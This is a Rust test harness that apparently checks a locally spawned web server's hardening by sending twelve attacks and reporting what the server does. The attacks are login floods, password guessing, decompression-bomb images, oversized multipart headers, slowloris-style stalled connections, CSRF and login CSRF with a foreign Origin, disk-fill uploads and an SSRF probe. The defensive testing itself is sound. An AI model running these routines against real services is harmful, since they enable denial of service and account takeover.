//! The attacks of issue 16, one function each, as an attacker on the LAN (or a web page the
//! user visits) would send them: reqwest where a well-formed request does the harm, a raw
//! `TcpStream` where the harm is in a request no client library sends. Each returns what it saw.

use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine;
use bytes::Bytes;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::payloads::{bomb_copy, gif_bomb, noise_png, png_bomb, png_with_junk, webp_bomb};
use crate::probe::Tally;
use crate::{ADMIN_PASSWORD, Args};

const REQUEST_TIMEOUT: Duration = Duration::from_secs(120);
const FOREIGN_ORIGIN: &str = "http://evil.example";
const MB: f64 = 1e6;
const MIB: usize = 1 << 20;

/// What an attack gets: the server and what to send.
pub struct Context<'a> {
    /// `http://127.0.0.1:PORT`
    pub base: String,
    /// `127.0.0.1:PORT`
    pub addr: String,
    pub pid: u32,
    pub args: &'a Args,
    pub payloads: &'a Payloads,
}

type Outcome<'a> = Pin<Box<dyn Future<Output = Result<String, String>> + 'a>>;

pub struct Attack {
    pub number: usize,
    pub name: &'static str,
    pub run: for<'a> fn(&'a Context<'a>) -> Outcome<'a>,
}

pub const ATTACKS: [Attack; 12] = [
    Attack {
        number: 1,
        name: "concurrent wrong-password logins to admin",
        run: |c| Box::pin(login_flood(c)),
    },
    Attack {
        number: 2,
        name: "password guessing from one client",
        run: |c| Box::pin(guessing(c)),
    },
    Attack {
        number: 3,
        name: "anonymous uploads with 5 × 1 MB of metadata, then 4 admin list calls",
        run: |c| Box::pin(metadata(c)),
    },
    Attack {
        number: 4,
        name: "padded decompression bombs at once (PNG 8000², GIF 16000×4000, WebP 8000²)",
        run: |c| Box::pin(bombs(c)),
    },
    Attack {
        number: 5,
        name: "a huge multipart part header",
        run: |c| Box::pin(part_header(c)),
    },
    Attack {
        number: 6,
        name: "idle connections, half with a half-sent request line",
        run: |c| Box::pin(idle_connections(c)),
    },
    Attack {
        number: 7,
        name: "large bodies at once, last byte withheld",
        run: |c| Box::pin(stalled_bodies(c)),
    },
    Attack {
        number: 8,
        name: "CSRF: text/plain JSON upload, foreign Origin, victim's cookie",
        run: |c| Box::pin(csrf(c)),
    },
    Attack {
        number: 9,
        name: "login CSRF: form-encoded login from a foreign Origin",
        run: |c| Box::pin(login_csrf(c)),
    },
    Attack {
        number: 10,
        name: "anonymous disk fill, 8 clients",
        run: |c| Box::pin(disk_fill(c)),
    },
    Attack {
        number: 11,
        name: "disk full",
        run: |_| Box::pin(async { Ok(String::new()) }),
    },
    Attack {
        number: 12,
        name: "SSRF refusal message for http://localhost:9/",
        run: |c| Box::pin(ssrf_message(c)),
    },
];

/// Everything sent that takes time to build, built once.
pub struct Payloads {
    pub png_bomb: Vec<u8>,
    pub gif_bomb: Vec<u8>,
    pub webp_bomb: Vec<u8>,
    tiny_png: Vec<u8>,
    noise_png: Vec<u8>,
}

impl Payloads {
    pub fn build() -> Self {
        const PAD: usize = 700_000;
        let mut tiny = std::io::Cursor::new(Vec::new());
        image::RgbImage::from_pixel(8, 8, image::Rgb([200, 30, 60]))
            .write_to(&mut tiny, image::ImageFormat::Png)
            .expect("encode png");
        Self {
            png_bomb: png_bomb(8000, PAD, 1),
            gif_bomb: gif_bomb(16000, 4000, PAD, 2),
            webp_bomb: webp_bomb(8000, PAD, 3),
            tiny_png: tiny.into_inner(),
            noise_png: noise_png(600),
        }
    }

    /// The tiny PNG, byte-distinct for each `n`.
    fn tiny(&self, n: u64) -> Vec<u8> {
        png_with_junk(&self.tiny_png, &n.to_le_bytes())
    }
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .no_proxy()
        .timeout(REQUEST_TIMEOUT)
        .build()
        .expect("http client")
}

fn data_url(png: &[u8]) -> String {
    format!(
        "data:image/png;base64,{}",
        base64::engine::general_purpose::STANDARD.encode(png)
    )
}

fn seconds(d: Duration) -> String {
    format!("{:.2} s", d.as_secs_f64())
}

/// A status and the JSON (or text) of the answer.
async fn answer(response: reqwest::Response) -> (u16, Value) {
    let status = response.status().as_u16();
    let text = response.text().await.unwrap_or_default();
    let value = serde_json::from_str(&text).unwrap_or(Value::String(text));
    (status, value)
}

fn error_text(value: &Value) -> String {
    match value {
        Value::String(s) => s.chars().take(80).collect(),
        v => v["error"].as_str().unwrap_or("").to_string(),
    }
}

/// Registers `username` (no Origin, JSON: what the web UI sends) and logs in; the session cookie.
async fn account(base: &str, username: &str, password: &str) -> Result<String, String> {
    let client = client();
    if username != "admin" {
        client
            .post(format!("{base}/api/register"))
            .json(
                &json!({"username": username, "email": format!("{username}@example.com"),
                          "password": password}),
            )
            .send()
            .await
            .map_err(|e| format!("register {username}: {e}"))?;
    }
    let response = client
        .post(format!("{base}/api/login"))
        .json(&json!({"username": username, "password": password}))
        .send()
        .await
        .map_err(|e| format!("login {username}: {e}"))?;
    let cookie = crate::spawned::session_cookie(response.headers());
    cookie.ok_or_else(|| format!("login {username}: HTTP {}, no cookie", response.status()))
}

async fn login_flood(c: &Context<'_>) -> Result<String, String> {
    let n = c.args.scaled(150);
    let client = client();
    let started = Instant::now();
    let calls: Vec<_> = (0..n)
        .map(|i| {
            let request = client
                .post(format!("{}/api/login", c.base))
                .json(&json!({"username": "admin", "password": format!("wrong-{i}")}));
            tokio::spawn(async move { request.send().await.map(|r| r.status().as_u16()) })
        })
        .collect();
    let mut tally = Tally::default();
    for call in calls {
        match call.await.map_err(|e| e.to_string())? {
            Ok(status) => tally.status(status),
            Err(e) => tally.error(&e),
        }
    }
    Ok(format!(
        "{n} logins answered in {}: {tally}",
        seconds(started.elapsed())
    ))
}

async fn guessing(c: &Context<'_>) -> Result<String, String> {
    let span = c.args.scaled_secs(5.0);
    let client = client();
    let started = Instant::now();
    let mut tally = Tally::default();
    let mut retry_after = None;
    while started.elapsed() < span {
        let sent = client
            .post(format!("{}/api/login", c.base))
            .json(&json!({"username": "admin", "password": format!("guess-{}", tally.total())}))
            .send()
            .await;
        match sent {
            Ok(r) => {
                if retry_after.is_none() {
                    retry_after = r
                        .headers()
                        .get(reqwest::header::RETRY_AFTER)
                        .and_then(|v| v.to_str().ok())
                        .map(str::to_string);
                }
                tally.status(r.status().as_u16());
            }
            Err(e) => tally.error(&e),
        }
    }
    let wall = started.elapsed().as_secs_f64();
    let checked = tally.count("401") + tally.count("400");
    Ok(format!(
        "{} attempts in {wall:.1} s: {tally}; {:.1} passwords checked/s{}",
        tally.total(),
        checked as f64 / wall,
        retry_after.map_or(String::new(), |r| format!("; Retry-After: {r}"))
    ))
}

async fn metadata(c: &Context<'_>) -> Result<String, String> {
    let n = c.args.scaled(20);
    let big = "x".repeat(1_000_000);
    let client = client();
    let mut uploads = Tally::default();
    let mut body_bytes = 0;
    for i in 0..n {
        let body = json!({
            "imageData": data_url(&c.payloads.tiny(i as u64)),
            "originalUrl": format!("https://example.com/{big}"),
            "category": "clothes",
            "pageInfo": {
                "url": format!("https://example.com/page/{big}"),
                "title": big,
                "imageContext": {"alt": big, "caption": big},
            },
        })
        .to_string();
        body_bytes = body.len();
        match client
            .post(format!("{}/api/receive-image", c.base))
            .header(reqwest::header::CONTENT_TYPE, "application/json")
            .body(body)
            .send()
            .await
        {
            Ok(r) => uploads.status(answer(r).await.0),
            Err(e) => uploads.error(&e),
        }
    }
    let cookie = account(&c.base, "admin", ADMIN_PASSWORD).await?;
    let started = Instant::now();
    let lists: Vec<_> = (0..4)
        .map(|_| {
            let request = client
                .get(format!("{}/api/user/images", c.base))
                .header(reqwest::header::COOKIE, &cookie);
            tokio::spawn(async move {
                let response = request.send().await?;
                let status = response.status().as_u16();
                let len = response.bytes().await?.len();
                Ok::<_, reqwest::Error>((status, len))
            })
        })
        .collect();
    let (mut listed, mut largest) = (Tally::default(), 0);
    for list in lists {
        match list.await.map_err(|e| e.to_string())? {
            Ok((status, len)) => {
                listed.status(status);
                largest = largest.max(len);
            }
            Err(e) => listed.error(&e),
        }
    }
    Ok(format!(
        "uploads of {:.1} MB: {uploads}; list page 1 ×4: {listed}, {:.1} MB each, all in {}",
        body_bytes as f64 / MB,
        largest as f64 / MB,
        seconds(started.elapsed())
    ))
}

fn multipart_file(bytes: Vec<u8>, filename: &str, mime: &str) -> reqwest::multipart::Form {
    let part = reqwest::multipart::Part::bytes(bytes)
        .file_name(filename.to_string())
        .mime_str(mime)
        .expect("mime");
    reqwest::multipart::Form::new()
        .part("file", part)
        .text("category", "clothes")
}

async fn bombs(c: &Context<'_>) -> Result<String, String> {
    let per_kind = c.args.scaled(2);
    let client = client();
    let kinds = [
        (&c.payloads.png_bomb, "bomb.png", "image/png"),
        (&c.payloads.gif_bomb, "bomb.gif", "image/gif"),
        (&c.payloads.webp_bomb, "bomb.webp", "image/webp"),
    ];
    let started = Instant::now();
    let mut posts = Vec::new();
    for copy in 0..per_kind {
        for (bomb, name, mime) in kinds {
            let form = multipart_file(bomb_copy(bomb, copy as u64), name, mime);
            let request = client
                .post(format!("{}/api/upload-file", c.base))
                .multipart(form);
            posts.push(tokio::spawn(async move {
                let response = request.send().await?;
                let status = response.status().as_u16();
                let value: Value = response.json().await.unwrap_or(Value::Null);
                Ok::<_, reqwest::Error>((status, value))
            }));
        }
    }
    let (mut uploads, mut tasks, mut refusal) = (Tally::default(), Vec::new(), None);
    for post in posts {
        match post.await.map_err(|e| e.to_string())? {
            Ok((status, value)) => {
                uploads.status(status);
                match value["taskId"].as_str() {
                    Some(task) if status == 200 => tasks.push(task.to_string()),
                    _ => refusal = refusal.or_else(|| Some(error_text(&value))),
                }
            }
            Err(e) => uploads.error(&e),
        }
    }
    let states = wait_for_tasks(&client, &c.base, &tasks).await;
    Ok(format!(
        "{} uploads: {uploads}{}; tasks: {states}, {} after the uploads began",
        3 * per_kind,
        refusal.map_or(String::new(), |r| format!(" ({r})")),
        seconds(started.elapsed())
    ))
}

/// Polls the tasks until none is `processing` (at most 120 s); their final states.
async fn wait_for_tasks(client: &reqwest::Client, base: &str, tasks: &[String]) -> Tally {
    let started = Instant::now();
    let mut pending: Vec<&String> = tasks.iter().collect();
    let mut states = Tally::default();
    while !pending.is_empty() && started.elapsed() < Duration::from_secs(120) {
        let mut still = Vec::new();
        for task in pending {
            let state = match client.get(format!("{base}/api/task/{task}")).send().await {
                Ok(r) => answer(r).await.1,
                Err(_) => Value::Null,
            };
            match state["status"]["status"].as_str() {
                Some("processing") => still.push(task),
                Some("failed") => states.add(format!(
                    "failed ({})",
                    state["status"]["error"].as_str().unwrap_or("")
                )),
                Some(other) => states.add(other),
                None => states.add("unknown"),
            }
        }
        pending = still;
        if !pending.is_empty() {
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }
    for _ in pending {
        states.add("still processing");
    }
    states
}

/// What one raw exchange got.
struct Raw {
    status: Option<u16>,
    /// The server closed (or reset) the connection.
    closed: bool,
    /// When the answer or the close came, from the connection's start.
    at: Duration,
    sent: u64,
    body: String,
}

/// Sends `head` then `pieces` on a new connection, while reading the answer; then waits `hold`
/// for an answer or a close, keeping the connection open (nothing more is sent).
async fn raw_exchange(
    addr: &str,
    head: Bytes,
    pieces: Vec<Bytes>,
    hold: Duration,
) -> Result<Raw, String> {
    let stream = TcpStream::connect(addr)
        .await
        .map_err(|e| format!("connect: {e}"))?;
    let started = Instant::now();
    let (mut rd, mut wr) = stream.into_split();
    let mut reader = tokio::spawn(async move {
        let (mut got, mut buf) = (Vec::new(), vec![0u8; 16 * 1024]);
        let closed = loop {
            match rd.read(&mut buf).await {
                Ok(0) | Err(_) => break true,
                Ok(n) => {
                    got.extend_from_slice(&buf[..n]);
                    if answer_complete(&got) {
                        break false;
                    }
                }
            }
        };
        (got, closed, started.elapsed())
    });
    let mut sent = 0u64;
    let write = async {
        wr.write_all(&head).await?;
        for piece in &pieces {
            wr.write_all(piece).await?;
            sent += piece.len() as u64;
        }
        Ok::<_, std::io::Error>(())
    };
    let early = tokio::select! {
        _ = tokio::time::timeout(REQUEST_TIMEOUT, write) => None,
        read = &mut reader => Some(read),
    };
    let read = match early {
        Some(read) => Some(read),
        None => tokio::time::timeout(hold, &mut reader).await.ok(),
    };
    drop(wr);
    reader.abort();
    Ok(match read {
        Some(Ok((got, closed, at))) => {
            let text = String::from_utf8_lossy(&got).to_string();
            let status = text
                .strip_prefix("HTTP/1.1 ")
                .and_then(|t| t.get(..3))
                .and_then(|s| s.parse().ok());
            let body = text
                .split_once("\r\n\r\n")
                .map(|(_, b)| b.chars().take(2000).collect());
            Raw {
                status,
                closed,
                at,
                sent,
                body: body.unwrap_or_default(),
            }
        }
        _ => Raw {
            status: None,
            closed: false,
            at: started.elapsed(),
            sent,
            body: String::new(),
        },
    })
}

/// The whole answer is in: its head, and as many body bytes as its `Content-Length`.
fn answer_complete(got: &[u8]) -> bool {
    let Some(end) = got.windows(4).position(|w| w == b"\r\n\r\n") else {
        return false;
    };
    let head = String::from_utf8_lossy(&got[..end]).to_ascii_lowercase();
    let length = head.lines().find_map(|l| {
        l.strip_prefix("content-length:")?
            .trim()
            .parse::<usize>()
            .ok()
    });
    match length {
        Some(length) => got.len() >= end + 4 + length,
        None => got.ends_with(b"0\r\n\r\n"),
    }
}

/// `total` bytes of `fill` as shared pieces.
fn filler(total: usize, fill: u8) -> Vec<Bytes> {
    let piece = Bytes::from(vec![fill; 256 * 1024]);
    let mut pieces = vec![piece.clone(); total / piece.len()];
    pieces.push(piece.slice(..total % piece.len()));
    pieces
}

async fn part_header(c: &Context<'_>) -> Result<String, String> {
    let header_len = c.args.scaled(50) * MIB;
    let boundary = "hostilebenchboundary";
    let png = c.payloads.tiny(0);
    let before = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\
         Content-Type: image/png\r\nX-Pad: "
    );
    let after_header = b"\r\n\r\n".to_vec();
    let tail = format!("\r\n--{boundary}--\r\n");
    let total = before.len() + header_len + after_header.len() + png.len() + tail.len();
    let head = format!(
        "POST /api/upload-file HTTP/1.1\r\nHost: {}\r\nContent-Type: multipart/form-data; \
         boundary={boundary}\r\nContent-Length: {total}\r\n\r\n",
        c.addr
    );
    let mut pieces = vec![Bytes::from(before)];
    pieces.extend(filler(header_len, b'a'));
    pieces.push(Bytes::from(after_header));
    pieces.push(Bytes::from(png));
    pieces.push(Bytes::from(tail));
    let raw = raw_exchange(&c.addr, Bytes::from(head), pieces, REQUEST_TIMEOUT).await?;
    Ok(format!(
        "{} after {} having sent {:.1} of {:.1} MiB{}",
        raw.status
            .map_or("no answer".to_string(), |s| format!("answered {s}")),
        seconds(raw.at),
        raw.sent as f64 / MIB as f64,
        total as f64 / MIB as f64,
        match serde_json::from_str::<Value>(&raw.body) {
            Ok(v) if v["success"] != true => format!(": {}", error_text(&v)),
            _ => String::new(),
        }
    ))
}

async fn idle_connections(c: &Context<'_>) -> Result<String, String> {
    let n = c.args.scaled(500);
    let hold = c.args.hold;
    let mut watchers = Vec::new();
    let mut refused = 0;
    for i in 0..n {
        let Ok(mut stream) = TcpStream::connect(&c.addr).await else {
            refused += 1;
            continue;
        };
        if i % 2 == 1 {
            let _ = stream.write_all(b"GET /api/sta").await;
        }
        watchers.push(tokio::spawn(async move {
            let started = Instant::now();
            let mut buf = [0u8; 1024];
            let read = tokio::time::timeout(hold, stream.read(&mut buf)).await;
            match read {
                Err(_) => None,
                Ok(Ok(0)) | Ok(Err(_)) => Some(("closed", started.elapsed())),
                Ok(Ok(_)) => Some(("answered, closed", started.elapsed())),
            }
        }));
    }
    let (mut tally, mut times) = (Tally::default(), Vec::new());
    for w in watchers {
        match w.await.map_err(|e| e.to_string())? {
            Some((what, at)) => {
                tally.add(what);
                times.push(at);
            }
            None => tally.add(format!("still open at {:.0} s", hold.as_secs_f64())),
        }
    }
    times.sort_unstable();
    let when = match (times.first(), times.last()) {
        (Some(first), Some(last)) => {
            format!(" (closed from {} to {})", seconds(*first), seconds(*last))
        }
        _ => String::new(),
    };
    let refused = match refused {
        0 => String::new(),
        r => format!(", {r} connects refused"),
    };
    Ok(format!(
        "{n} connections{refused}: {tally}{when}; server's open-file limit {}",
        open_file_limit(c.pid).unwrap_or_else(|| "unknown".to_string())
    ))
}

/// The soft `Max open files` of `/proc/PID/limits`: the connections the server can hold at most.
fn open_file_limit(pid: u32) -> Option<String> {
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).ok()?;
    let line = limits.lines().find(|l| l.starts_with("Max open files"))?;
    line.split_whitespace().nth(3).map(str::to_string)
}

async fn stalled_bodies(c: &Context<'_>) -> Result<String, String> {
    let n = c.args.scaled(50);
    let declared = c.args.scaled(14) * 1_000_000;
    let prefix = Bytes::from_static(b"{\"imageData\":\"data:image/png;base64,");
    let head = Bytes::from(format!(
        "POST /api/receive-image HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n\
         Content-Length: {declared}\r\n\r\n",
        c.addr
    ));
    let pieces = {
        let mut pieces = vec![prefix.clone()];
        pieces.extend(filler(declared - prefix.len() - 1, b'A'));
        Arc::new(pieces)
    };
    let started = Instant::now();
    let calls: Vec<_> = (0..n)
        .map(|_| {
            let (addr, head, pieces, hold) =
                (c.addr.clone(), head.clone(), pieces.clone(), c.args.hold);
            tokio::spawn(async move { raw_exchange(&addr, head, pieces.to_vec(), hold).await })
        })
        .collect();
    let (mut tally, mut sent, mut refusal) = (Tally::default(), 0, None);
    for call in calls {
        let raw = call.await.map_err(|e| e.to_string())??;
        sent += raw.sent;
        match (raw.status, raw.closed) {
            (Some(status), _) => {
                tally.add(format!("answered {status}"));
                let refused = serde_json::from_str::<Value>(&raw.body).map(|v| error_text(&v));
                refusal = refusal.or(refused.ok());
            }
            (None, true) => tally.add(format!(
                "closed unanswered (~{:.0} s)",
                raw.at.as_secs_f64()
            )),
            (None, false) => tally.add("held open to the end"),
        }
    }
    Ok(format!(
        "{n} × {:.1} MB declared, {:.0} MB sent in all: {tally}{}; {} in all",
        declared as f64 / MB,
        sent as f64 / MB,
        refusal.map_or(String::new(), |r| format!(" ({r})")),
        seconds(started.elapsed())
    ))
}

async fn csrf(c: &Context<'_>) -> Result<String, String> {
    let cookie = account(&c.base, "victim", "victim-pw-1").await?;
    let body = json!({"imageData": data_url(&c.payloads.tiny(1)), "category": "clothes"});
    let response = client()
        .post(format!("{}/api/receive-image", c.base))
        .header(reqwest::header::CONTENT_TYPE, "text/plain;charset=UTF-8")
        .header(reqwest::header::ORIGIN, FOREIGN_ORIGIN)
        .header(reqwest::header::COOKIE, cookie)
        .body(body.to_string())
        .send()
        .await
        .map_err(|e| e.to_string())?;
    let (status, value) = answer(response).await;
    Ok(if status == 200 {
        format!(
            "{status}: stored{}",
            if value["isLoggedIn"] == true {
                " in the victim's account"
            } else {
                " anonymously"
            }
        )
    } else {
        format!("{status}: {}", error_text(&value))
    })
}

async fn login_csrf(c: &Context<'_>) -> Result<String, String> {
    account(&c.base, "attacker", "attacker-pw-1").await?;
    let response = client()
        .post(format!("{}/api/login", c.base))
        .header(
            reqwest::header::CONTENT_TYPE,
            "application/x-www-form-urlencoded",
        )
        .header(reqwest::header::ORIGIN, FOREIGN_ORIGIN)
        .body(json!({"username": "attacker", "password": "attacker-pw-1"}).to_string())
        .send()
        .await
        .map_err(|e| e.to_string())?;
    let cookie = response.headers().contains_key(reqwest::header::SET_COOKIE);
    let (status, value) = answer(response).await;
    Ok(format!(
        "{status}: {}",
        if cookie {
            "session cookie set (the browser is now the attacker's)".to_string()
        } else {
            format!("no session cookie ({})", error_text(&value))
        }
    ))
}

async fn disk_fill(c: &Context<'_>) -> Result<String, String> {
    const CLIENTS: usize = 8;
    let span = c.args.scaled_secs(5.0);
    let started = Instant::now();
    let counter = Arc::new(std::sync::atomic::AtomicU64::new(0));
    let noise = Arc::new(c.payloads.noise_png.clone());
    let workers: Vec<_> = (0..CLIENTS)
        .map(|_| {
            let (client, base, counter, noise) =
                (client(), c.base.clone(), counter.clone(), noise.clone());
            tokio::spawn(async move {
                let (mut tally, mut accepted) = (Tally::default(), 0u64);
                while started.elapsed() < span {
                    let n = counter.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    let png = png_with_junk(&noise, &n.to_le_bytes());
                    let len = png.len() as u64;
                    let sent = client
                        .post(format!("{base}/api/upload-file"))
                        .multipart(multipart_file(png, "noise.png", "image/png"))
                        .send()
                        .await;
                    match sent {
                        Ok(r) => {
                            let status = r.status().as_u16();
                            let _ = r.bytes().await;
                            if status == 200 {
                                accepted += len;
                            }
                            tally.status(status);
                        }
                        Err(e) => tally.error(&e),
                    }
                }
                (tally, accepted)
            })
        })
        .collect();
    let (mut tally, mut accepted) = (Tally::default(), 0);
    for w in workers {
        let (t, a) = w.await.map_err(|e| e.to_string())?;
        tally.merge(t);
        accepted += a;
    }
    let wall = started.elapsed().as_secs_f64();
    Ok(format!(
        "{:.2} MB PNGs for {wall:.1} s: {tally}; {:.0} MB accepted, {:.1} MB/s",
        c.payloads.noise_png.len() as f64 / MB,
        accepted as f64 / MB,
        accepted as f64 / MB / wall
    ))
}

async fn ssrf_message(c: &Context<'_>) -> Result<String, String> {
    let response = client()
        .post(format!("{}/api/receive-image", c.base))
        .json(&json!({"imageData": "http://localhost:9/image.png", "category": "clothes"}))
        .send()
        .await
        .map_err(|e| e.to_string())?;
    let (status, value) = answer(response).await;
    let text = error_text(&value);
    let named = ["127.0.0.1", "::1"].iter().any(|a| text.contains(a));
    Ok(format!(
        "{status} \"{text}\": internal address named: {}",
        if named { "YES" } else { "no" }
    ))
}
